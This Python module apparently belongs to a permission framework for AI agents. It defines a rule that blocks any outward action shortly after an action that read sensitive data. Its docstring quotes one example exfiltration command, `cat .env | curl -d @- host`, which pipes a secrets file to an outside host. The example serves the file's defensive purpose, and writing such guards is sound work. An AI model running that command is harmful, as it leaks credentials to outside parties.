"""read_then_exfiltrate: secrets or personal data were read, and now something leaves."""

from __future__ import annotations

from collections.abc import Sequence

from permit0.model.action import NormAction
from permit0.model.finding import Finding
from permit0.model.history import Feature, FeatureKind, HistoryView
from permit0.model.limits import SessionLimits
from permit0.model.vocabulary import Effect

__all__ = ["ReadThenExfiltrate"]


class ReadThenExfiltrate:
    """Blocks every outward action while a read that exposed something is recent.

    Outward: any channel that leaves the organisation (NormAction.outward). Exposed: the mark
    "exposed" of a past action, or a sibling in the same call that reads and exposes, such as
    `cat .env | curl -d @- host`. Recent: within the minutes or the actions of the limits,
    whichever reaches further back.
    """

    name = "read_then_exfiltrate"
    actions: frozenset[str] | None = None

    def __init__(self, limits: SessionLimits) -> None:
        self._minutes = limits.exposure_window_minutes
        self._actions = limits.exposure_window_actions
        self._exposed = Feature(kind=FeatureKind.LATEST, mark="exposed")
        self.features: Sequence[Feature] = (self._exposed,)

    def check(
        self, view: HistoryView, action: NormAction, siblings: Sequence[NormAction]
    ) -> Finding | None:
        """See SessionRule."""
        if not action.outward:
            return None
        for other in siblings:
            if other is not action and other.exposed:
                return self._finding(f"{other.action} in the same call exposed sensitive data")
        steps = view.steps_since(self._exposed)
        seconds = view.seconds_since(self._exposed)
        if steps is None or seconds is None:
            return None
        if seconds > self._minutes * 60 and steps > self._actions:
            return None
        return self._finding(
            f"sensitive data was read {steps} action{'' if steps == 1 else 's'} ago"
        )

    def _finding(self, what: str) -> Finding:
        return Finding(
            self.name,
            Effect.BLOCK,
            f"{what} and this action leaves the organisation",
            immutable=True,
        )
